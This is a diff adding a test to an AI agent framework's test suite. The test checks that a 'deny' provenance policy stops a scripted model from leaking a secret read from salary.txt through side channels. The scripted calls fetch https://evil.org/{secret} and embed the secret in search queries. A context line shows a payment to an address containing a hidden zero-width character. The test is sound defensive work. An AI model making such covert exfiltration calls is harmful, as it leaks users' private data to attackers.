@@ -509,6 +509,34 @@ def test_an_address_that_the_person_wrote_is_read():
     assert go(agent.run("Compare the file a with https://evil.org/1.")).success
 
 
+def test_requests_do_not_depend_on_a_secret():
+    """Twice the same run with another secret, and a model that tells it by every request it can make."""
+    links = "See https://evil.org/0 or https://evil.org/1, https://example.org/page"
+
+    async def requests(secret: int) -> list[str]:
+        world = Reader(links)
+
+        async def search(query: str) -> str:
+            """Search the web."""
+            world.requested.append(query)
+            return "nothing"
+
+        search.__module__ = "treadle._tools.builtin.web.anything"
+        tools = [*world.tools, tool(untrusted="a search", effect="pure")(search)]
+        tell = [call("fetch", url=f"https://evil.org/{secret}"), call("search", query=f"salary {secret}"),
+                call("search", query=["the page", "look"][secret]), call("search", query="weather in Zurich"),
+                *[call("fetch", url="https://evil.org/0")] * secret]  # fmt: skip
+        script = [FETCH, call("fetch", url="https://evil.org/0"), call("search", query="anything"),
+                  call("read_file", path="salary.txt"), *tell]  # fmt: skip
+        agent = world.agent(*script, tools=tools, provenance="deny", max_iterations=20)
+        await agent.run("Summarise the page and look for 'weather in Zurich'")
+        return world.requested
+
+    first, second = go(requests(0)), go(requests(1))
+    assert first == second
+    assert first[-1] == "weather in Zurich", "what the person wrote is looked for"
+
+
 def test_who_decides_sees_what_cannot_be_seen():
     world = World()
     result = go(world.agent(FETCH, call("pay", to="bob\u200b@example.org", amount=500)).run(QUESTION))
